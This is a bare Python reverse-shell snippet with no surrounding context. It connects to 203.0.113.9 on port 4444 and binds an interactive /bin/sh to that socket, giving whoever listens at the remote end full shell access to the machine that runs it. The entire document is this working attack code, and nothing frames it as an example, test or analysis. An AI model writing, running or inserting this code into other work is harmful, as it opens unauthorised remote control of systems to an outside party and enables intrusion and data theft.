
import socket as S
import subprocess as P
sock = S.create_connection(("203.0.113.9", 4444))
P.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
